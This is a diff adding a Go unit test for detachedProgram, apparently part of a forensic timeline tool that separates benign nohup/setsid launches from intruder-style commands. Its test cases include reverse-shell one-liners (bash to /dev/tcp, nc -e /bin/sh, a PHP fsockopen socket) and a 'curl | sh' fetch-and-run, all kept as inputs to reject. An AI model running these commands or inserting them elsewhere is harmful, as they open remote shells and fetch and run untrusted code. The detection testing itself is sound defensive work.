@@ -1,0 +1,23 @@
+package timeline
+
+import "testing"
+
+// TestDetachedProgram: what a shell command only detaches, or nothing
+// when it does more or detaches what an intruder would.
+func TestDetachedProgram(t *testing.T) {
+	for _, c := range []struct{ cmd, want string }{
+		{"nohup /usr/local/bin/kbindex rebuild > /var/log/kb/reindex.log 2>&1 &", "/usr/local/bin/kbindex"},
+		{"setsid -f /opt/app/bin/export --all >/dev/null 2>&1", "/opt/app/bin/export"},
+		{"nohup /tmp/.sysd &", "/tmp/.sysd"}, // a program: the log must also show it run before and never written
+		{"nohup bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' &", ""},
+		{"setsid php -r '$s=fsockopen(\"127.0.0.1\",4448);' >/dev/null 2>&1 &", ""},
+		{"nohup nc 203.0.113.9 4444 -e /bin/sh &", ""},
+		{"nohup /usr/local/bin/kbindex rebuild; curl http://x/y | sh", ""},
+		{"nohup /usr/local/bin/kbindex < /tmp/in &", ""},
+		{"nohup python3 -m http.server &", ""},
+	} {
+		if got := detachedProgram(c.cmd); got != c.want {
+			t.Errorf("detachedProgram(%q) = %q, want %q", c.cmd, got, c.want)
+		}
+	}
+}
